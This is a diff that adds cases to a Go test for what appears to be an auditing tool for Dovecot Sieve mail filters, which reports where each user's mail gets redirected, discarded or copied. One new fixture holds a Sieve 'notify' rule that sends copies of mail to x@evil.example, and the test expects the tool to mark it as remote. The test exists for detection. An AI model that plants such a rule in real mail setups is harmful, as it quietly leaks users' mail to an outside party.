@@ -76,6 +76,12 @@ func TestHooks(t *testing.T) {
 				"sieve_after:1.sieve | map | table /s/d/1.sieve | all mail that is delivered", "sieve_after:2.sieve | map | table /s/d/2.sieve | all mail that is delivered"}},
 		{"the store is linked", loaded, map[string]string{alice: "-> sieve/main.sieve", "/home/alice/sieve/main.sieve": "require \"include\";\ninclude \"more\";\n", "/home/alice/sieve/more.sieve": "redirect \"bob@example.test\";\n", "/home/alice/sieve/old.sieve": "discard;\n"}, []string{
 			"/home/alice/.dovecot.sieve:more:redirect:1 | redirect | address bob@example.test | recipient alice"}},
+		{"what is included is not there", loaded, map[string]string{alice: "-> sieve/a.sieve", "/home/alice/sieve/a.sieve": "require \"include\";\ninclude \"b\";\ndiscard;\n"}, []string{
+			"/home/alice/.dovecot.sieve:include:1 | unreadable | file b | recipient alice | inactive: Dovecot does not compile this script, since the script b that it includes is not there (line 2)",
+			"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice | inactive: Dovecot does not compile this script, since the script b that it includes is not there (line 2)"}},
+		{"several are told", loaded, map[string]string{alice: "require \"enotify\";\nnotify \"mailto:x@evil.example?cc=bob@example.test\";\n"}, []string{
+			"/home/alice/.dovecot.sieve:notify:1 | copy | address x@evil.example | recipient alice | remote",
+			"/home/alice/.dovecot.sieve:notify:2 | copy | address bob@example.test | recipient alice"}},
 		{"scripts include each other", loaded, map[string]string{alice: "-> sieve/a.sieve", "/home/alice/sieve/a.sieve": "require \"include\";\ninclude \"b\";\n", "/home/alice/sieve/b.sieve": "require \"include\";\ninclude \"a\"; include \"b\"; discard;\n"}, []string{
 			"/home/alice/.dovecot.sieve:b:discard:1 | discard | text discard | recipient alice"}},
 		{"a program that is not there", loaded + "plugin {\n  sieve_plugins = sieve_extprograms\n  sieve_extensions = +vnd.dovecot.pipe\n  sieve_pipe_bin_dir = /usr/lib/dovecot/sieve-pipe\n}\n",
